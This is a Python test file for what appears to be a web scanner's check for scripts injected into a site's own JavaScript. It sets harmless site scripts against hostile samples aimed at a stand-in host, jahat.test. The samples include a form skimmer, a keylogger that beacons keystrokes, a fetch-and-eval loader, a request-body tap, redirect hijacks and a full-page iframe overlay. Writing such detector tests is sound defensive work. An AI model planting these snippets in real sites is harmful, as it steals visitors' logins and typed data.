"""Script files of the site's own: what honest ones do, and what is added to them."""

from __future__ import annotations

import pytest

from cyberscan.checks.content.injected_script import CHECK
from cyberscan.model.facts.content import Linked, LinkedPage, OwnScript, Visit, Visits
from cyberscan.model.facts.web import Exchange
from cyberscan.model.verdict import Outcome, Verdict
from cyberscan.parse.matter import files as matter_files
from tests.checks.content.reading import NONE, ZONE, linked, material, site
from tests.checks.content.reading import URL as PAGE

URL = f"{PAGE}js/situs.js"
LOGIN = "<form action=/masuk method=post><input name=nama><input type=password name=sandi></form>"
TEXT = "<p>" + "Pelayanan buka Senin sampai Jumat di kantor kabupaten. " * 12 + "</p>"
LURE = '<div style="position:fixed;inset:0"><p>Klik Izinkan jika Anda bukan robot</p></div>'


def file(source: str, kind: str = "script") -> OwnScript:
    exchange = Exchange(url=URL, status=200, headers=())
    inside = matter_files.read(source, URL, PAGE, ZONE)
    return OwnScript(exchange=exchange, kind=kind, matter=inside)


def judged(*files: OwnScript, page: str = TEXT + LOGIN) -> Verdict:
    verdict = CHECK.judge(material(site(page)), NONE, Visits(visits=(), scripts=files), NONE)
    assert isinstance(verdict, Verdict)
    return verdict


HONEST = {
    "an old browser": "if(navigator.userAgent.indexOf('MSIE ')>0){location='https://browsehappy.com/'}",
    "a vendor's mobile site": "if(screen.width<700){location.href='https://m.desa.test/kab-contoh/'}",
    "a link that opens an application": (
        "if(/Android/.test(navigator.userAgent)&&!sessionStorage.a){sessionStorage.a=1;"
        "location='https://warga.onelink.me/Ab1'}"
    ),
    "statistics": (
        "(function(){function s(n){navigator.sendBeacon('https://stat.test/e',JSON.stringify({n:n,"
        "p:location.pathname}))}s('lihat');document.addEventListener('keydown',function(e){"
        "if(e.key==='Escape')tutup();if(e.keyCode==9)s('tab')})})();"
    ),
    "an inquiry to a service for forms": (
        "q('#kontak').onsubmit=async function(e){const r=await fetch('https://formulir.test/f/a',"
        "{method:'POST',body:new FormData(e.target)});if(r.ok)alert('terkirim')}"
    ),
    "an inquiry to a table of Google's": (
        "f.onsubmit=function(e){fetch('https://script.google.com/macros/s/AK/exec',{method:'POST',"
        "mode:'no-cors',body:new FormData(this)})}"
    ),
    "its own login": (
        "$('#masuk').submit(function(){$.post('/api/login',$(this).serialize(),lanjut)});"
        "$('.mata').click(function(){var p=q('input[type=password]');p.type='text'})"
    ),
    "the login of a vendor": (
        "if(!/sesi=/.test(document.cookie)){location.href='https://sso.vendor.test/login'}"
    ),
    "a monitor of errors": (
        "(function(){var o=window.fetch;window.fetch=function(u,i){return o(u,i).catch(function(e){"
        "navigator.sendBeacon('https://galat.test/api',JSON.stringify({u:u,m:e.message}));throw e"
        "})}})();"
    ),
    "a token with each request": (
        "(function(){var o=window.fetch;window.fetch=function(u,i){i=i||{};i.headers={'X-CSRF':t};"
        "return o(u,i)}})();"
    ),
    "a tour in a frame, once somebody asks for it": (
        "q('#tur').onclick=function(){var f=document.createElement('iframe');"
        "f.src='https://tur.test/x';f.style.cssText='position:fixed;inset:0';"
        "document.body.appendChild(f)}"
    ),
    "a chat window": (
        "(function(){var s=document.createElement('script');s.src='https://obrolan.test/w.js';"
        "document.head.appendChild(s)})();"
    ),
    "a search by typing": (
        "$('#cari').on('keyup',function(e){if(e.which==13)return;"
        "$.getJSON('https://cari.test/api?q='+this.value,tampil)})"
    ),
    "a table to download": (
        "var b=new Blob([csv],{type:'text/csv'});a.href=URL.createObjectURL(b);a.click()"
    ),
    "notifications on demand": (
        "q('#bel').onclick=function(){Notification.requestPermission().then(langganan)}"
    ),
}
ADDED = {
    "telephones, once": (
        (
            "if(/Android/.test(navigator.userAgent)&&!localStorage.z){localStorage.z=1;"
            "location.href='https://lp.jahat.test/m'}"
        ),
        "visitors",
    ),
    "after a search": (
        "if(/google\\./.test(document.referrer)){location.replace('https://lp.jahat.test/s')}",
        "visitors",
    ),
    "whoever clicks": (
        "document.addEventListener('click',function(){window.open('https://lp.jahat.test/p')})",
        "visitors",
    ),
    "a frame over the page": (
        (
            "var f=document.createElement('iframe');f.src='https://lp.jahat.test/l';"
            "f.style.cssText='position:fixed;top:0;left:0;width:100vw;height:100vh';"
            "document.body.appendChild(f);"
        ),
        "cover",
    ),
    "what forms hold": (
        (
            "document.addEventListener('submit',function(e){var d='';"
            "e.target.querySelectorAll('input').forEach(function(i){d+=i.name+'='+i.value});new Image().src='https://st.jahat.test/c?'+d"
            "},true);"
        ),
        "skimmer",
    ),
    "what is typed": (
        (
            "var k='';document.addEventListener('keydown',function(e){k+=e.key;"
            "navigator.sendBeacon('https://st.jahat.test/k',k)});"
        ),
        "skimmer",
    ),
    "what a stranger answers": (
        "fetch('https://st.jahat.test/c').then(r=>r.text()).then(eval);",
        "smuggled",
    ),
    "copies": (
        (
            "(function(w){var f=w.fetch;w.fetch=function(a,b){navigator.sendBeacon("
            "'https://st.jahat.test/b',b.body);return f.apply(this,arguments)}})(window);"
        ),
        "tap",
    ),
}


@pytest.mark.parametrize("name", HONEST)
def test_honest_files_pass(name: str) -> None:
    verdict = judged(file(HONEST[name]))
    assert verdict.outcome is Outcome.PASS, verdict


@pytest.mark.parametrize("name", ADDED)
@pytest.mark.parametrize("beside", ["", "a chat window", "its own login", "statistics"])
def test_what_is_added_fails(name: str, beside: str) -> None:
    source, message = ADDED[name]
    honest = HONEST[beside] if beside else ""
    verdict = judged(file(f"{honest}\n{source}"))
    assert (verdict.outcome, verdict.message) == (Outcome.FAIL, message), verdict
    assert URL in str(verdict.evidence[0])
    assert "jahat.test" in str(verdict.evidence[0])


def test_what_a_page_takes_openly_as_well_is_no_stranger() -> None:
    source = ADDED["copies"][0].replace("st.jahat.test", "catatan.test")
    page = f"{TEXT}<script src=https://catatan.test/a.js></script>"
    assert judged(file(source), page=page).outcome is Outcome.PASS


@pytest.mark.parametrize(
    ("page", "worker", "outcome"),
    [
        (LURE, "importScripts('https://dorong.test/a.js')", Outcome.FAIL),
        (LURE, "self.addEventListener('fetch',f)", Outcome.PASS),
        # A vendor's notifications, as many sites have them.
        (TEXT, "importScripts('https://dorong.test/a.js')", Outcome.PASS),
        (TEXT, "importScripts('https://www.gstatic.com/firebasejs/a.js')", Outcome.PASS),
        (
            "<p>Klik Izinkan untuk menerima pemberitahuan banjir.</p>",
            "importScripts('https://dorong.test/a.js')",
            Outcome.PASS,
        ),
        (
            "<p>Jawab captcha di bawah. Nomor antrean dikirim.</p>",
            "importScripts('https://dorong.test/a.js')",
            Outcome.PASS,
        ),
    ],
)
def test_a_worker_of_strangers_behind_a_trick(page: str, worker: str, outcome: Outcome) -> None:
    verdict = judged(file(worker, "worker"), page=page)
    assert verdict.outcome is outcome, verdict


def test_a_linked_page_that_only_telephones_get_with_a_trap_fails() -> None:
    trap = f"{TEXT}<script>{ADDED['whoever clicks'][0]}</script>"
    beside = linked(("berita/1", site(TEXT)))
    seen = material(site(trap))
    visit = Visit(profile="mobile", exchange=seen.exchange, matter=seen.matter)
    assert isinstance(beside, Linked)
    (page,) = beside.pages
    more = LinkedPage(exchange=page.exchange, why="news", matter=page.matter, others=(visit,))
    verdict = CHECK.judge(material(site(TEXT)), Linked(pages=(more,)), NONE, NONE)
    assert isinstance(verdict, Verdict)
    assert (verdict.outcome, verdict.message) == (Outcome.FAIL, "visitors")
    assert "[mobile]" in str(verdict.evidence[0])
